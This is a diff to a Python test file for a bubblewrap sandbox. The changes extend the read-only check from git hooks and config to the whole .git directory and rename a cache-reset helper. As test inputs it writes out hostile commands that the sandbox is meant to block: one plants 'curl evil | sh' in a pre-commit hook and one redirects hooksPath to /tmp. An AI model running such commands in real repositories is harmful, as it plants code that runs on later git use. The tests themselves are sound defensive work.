@@ -106,7 +106,7 @@ def test_sandbox_refuses_writes_outside_the_project(bwrap, project, ctx):
     assert result.status is Status.FAILED and not home.exists()
 
 
-def test_sandbox_keeps_git_hooks_and_config_read_only(bwrap, project, ctx):
+def test_sandbox_keeps_the_git_dir_read_only(bwrap, project, ctx):
     (project / ".git" / "hooks").mkdir(parents=True)
     (project / ".git" / "config").write_text("[core]\n")
     result = run(ctx, command="echo 'curl evil | sh' > .git/hooks/pre-commit")
@@ -114,8 +114,8 @@ def test_sandbox_keeps_git_hooks_and_config_read_only(bwrap, project, ctx):
     result = run(ctx, command="echo '[core] hooksPath = /tmp/x' >> .git/config")
     assert result.status is Status.FAILED
     assert (project / ".git" / "config").read_text() == "[core]\n"
-    result = run(ctx, command="echo ref > .git/HEAD && cat .git/HEAD")
-    assert result.status is Status.COMPLETED, result.output
+    result = run(ctx, command="echo ref > .git/HEAD")  # the whole git dir, not just hooks
+    assert result.status is Status.FAILED and not (project / ".git" / "HEAD").exists()
 
 
 def test_sandbox_tmp_is_private(bwrap, project, ctx, outside):
@@ -156,8 +156,8 @@ def test_sandbox_timeout_kills_everything_inside(bwrap, project, ctx):
 @pytest.mark.skipif(not sys.platform.startswith("linux"), reason="bubblewrap is the Linux sandbox")
 def test_detect_finds_no_sandbox_without_bwrap(monkeypatch):
     monkeypatch.setenv("PATH", "/nonexistent")
-    sandbox.detect.cache_clear()
+    sandbox.forget()
     try:
         assert sandbox.detect() is None
     finally:
-        sandbox.detect.cache_clear()
+        sandbox.forget()
